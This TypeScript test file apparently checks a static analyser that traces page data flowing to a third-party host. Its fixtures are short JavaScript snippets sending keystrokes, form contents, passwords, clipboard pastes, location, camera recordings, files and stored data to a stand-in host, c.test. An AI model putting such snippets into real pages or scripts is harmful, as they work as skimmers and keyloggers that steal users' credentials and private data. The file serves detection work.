import { describe, expect, test } from "vitest";
import { sinksOf, traceOf } from "../testing/trace-of.ts";

const SEND = 'function send(data) { fetch("https://c.test/", { method: "POST", body: data }); }\n';

/** The data of each event, its trigger, and the listener that receives it. */
const EVENTS = [
	[
		"a key",
		`document.addEventListener("keydown", (event) => send(event.key));`,
		"key (page-event)",
		"keydown on document",
	],
	[
		"a key through document.onkeyup",
		"document.onkeyup = ({ code }) => send(code);",
		"key (page-event)",
		"keyup on document",
	],
	[
		"typed text",
		`document.addEventListener("input", (event) => send(event.target.value));`,
		"form (page-event)",
		"input on document",
	],
	[
		"a submitted form",
		`document.addEventListener("submit", (event) => send(JSON.stringify(Object.fromEntries(new FormData(event.target)))));`,
		"form (page-event)",
		"submit on document",
	],
	[
		"a paste",
		`document.addEventListener("paste", (event) => send(event.clipboardData.getData("text")));`,
		"clipboard (page-event)",
		"paste on document",
	],
	[
		"a message",
		`addEventListener("message", (event) => send(event.data));`,
		"message (automatic)",
		"message on window",
	],
	[
		"a place",
		"navigator.geolocation.getCurrentPosition((place) => send(place.coords.latitude));",
		"geolocation (purpose)",
		"",
	],
	[
		"a picture of the camera",
		"navigator.mediaDevices.getUserMedia({ video: true }).then((stream) => { const recorder = new MediaRecorder(stream); recorder.ondataavailable = (event) => send(event.data); });",
		"media (page-event)",
		"dataavailable on MediaRecorder",
	],
	[
		"a file",
		`document.querySelector("input[type=file]").onchange = (event) => send(event.target.files[0]);`,
		"file (page-event)",
		"change on page element",
	],
	[
		"a dropped file",
		`document.addEventListener("drop", (event) => send(event.dataTransfer.files[0]));`,
		"file (page-event)",
		"drop on document",
	],
	[
		"a storage event",
		`addEventListener("storage", (event) => send(event.newValue));`,
		"storage (automatic)",
		"storage on window",
	],
	[
		"IndexedDB",
		`indexedDB.open("a").onsuccess = (event) => { event.target.result.transaction("a").objectStore("a").getAll().onsuccess = (got) => send(got.target.result); };`,
		"storage (page-event)",
		"success on IDBRequest, success on IDBRequest",
	],
	[
		"an XHR answer",
		`const x = new XMLHttpRequest(); x.open("GET", "/api/me"); x.onload = () => send(x.responseText); x.send();`,
		"site-answer (purpose)",
		"load on XMLHttpRequest",
	],
	[
		"a manager's answer",
		`GM_xmlhttpRequest({ url: "/api/me", onload: (answer) => send(answer.responseText) });`,
		"site-answer (purpose)",
		"",
	],
	[
		"a click's text",
		`document.addEventListener("click", (event) => send(event.target.innerText));`,
		"page (page-event)",
		"click on document",
	],
	[
		"a password as typed",
		`document.querySelector("input[type=password]").addEventListener("input", function () { send(this.value); });`,
		"password (page-event)",
		"input on page element",
	],
	[
		"an answer in a field of its own",
		`const field = document.createElement("input"); document.body.append(field); field.onchange = () => send(field.value);`,
		"answer (purpose)",
		"change on own element",
	],
	[
		"a popstate",
		`addEventListener("popstate", () => send(location.href));`,
		"address (automatic)",
		"popstate on window",
	],
	[
		"a mutation",
		"new MutationObserver((all) => send(all[0].target.textContent)).observe(document, { subtree: true });",
		"page (automatic)",
		"",
	],
] as const;

describe("events", () => {
	test.each(EVENTS)("%s", (_title, code, brought, listeners) => {
		const sent = sinksOf(SEND + code).filter((line) => line.includes("c.test"));
		expect(sent).toContain(`request fetch > third-party c.test < body ${brought}`);
		expect(
			traceOf(SEND + code)
				.listeners.map(({ event, on }) => `${event} on ${on}`)
				.join(", "),
		).toBe(listeners);
	});

	test.each(EVENTS)("%s, and nothing of it is sent", (_title, code) => {
		const nothing = sinksOf(`function send(data) { fetch("https://c.test/"); }\n${code}`);
		expect(nothing.filter((line) => line.includes("c.test") && line.includes("<"))).toEqual([]);
	});
});
